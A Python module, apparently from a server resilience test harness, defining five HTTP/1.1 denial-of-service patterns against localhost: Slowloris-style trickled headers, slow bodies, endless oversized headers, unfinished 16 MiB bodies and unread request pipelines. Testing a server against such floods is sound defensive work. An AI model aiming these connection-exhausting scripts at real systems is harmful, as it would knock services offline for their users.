"""Attacks in requests of HTTP/1.1."""

from attacks.traffic import FOREVER, Attack

QUERY = b"POST /v1/projects/p/databases/(default)/documents:runQuery HTTP/1.1\r\nHost: localhost\r\n"


class SlowHeaders(Attack):
    """Heads of requests that come a line a second and never end (Slowloris)."""

    protocol = "http/1.1"
    links = 2_000
    opening_rate = 500
    seconds = 20

    def script(self, number):
        yield b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n"
        while True:
            yield 1
            yield b"X-A: b\r\n"


class SlowBodies(Attack):
    """Bodies of requests that come a byte a second."""

    protocol = "http/1.1"
    links = 2_000
    opening_rate = 500
    seconds = 20

    def script(self, number):
        yield QUERY + b"Content-Length: 1000000\r\n\r\n{"
        while True:
            yield 1
            yield b" "


class EndlessHeaders(Attack):
    """Heads of requests without an end, as fast as the server takes them."""

    protocol = "http/1.1"

    def script(self, number):
        yield b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n"
        piece = b"X-A: " + b"v" * 16_000
        piece += b"" if number % 2 else b"\r\n"
        while True:
            yield piece


class UnfinishedBodies(Attack):
    """Bodies of 16 MiB that lack their last byte."""

    protocol = "http/1.1"
    links = 100

    def script(self, number):
        size = 16 << 20
        if number % 2:
            yield QUERY + b"Content-Length: %d\r\n\r\n" % size
        else:
            yield QUERY + b"Transfer-Encoding: chunked\r\n\r\n%x\r\n" % size
        piece = b" " * 65_536
        for _ in range(size // len(piece) - 1):
            yield piece
        yield piece[1:]
        yield FOREVER


class UnreadPipeline(Attack):
    """Requests in a pipeline whose answers nobody reads."""

    protocol = "http/1.1"
    links = 64
    reads = False

    def script(self, number):
        requests = b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n\r\n" * 500
        while True:
            yield requests
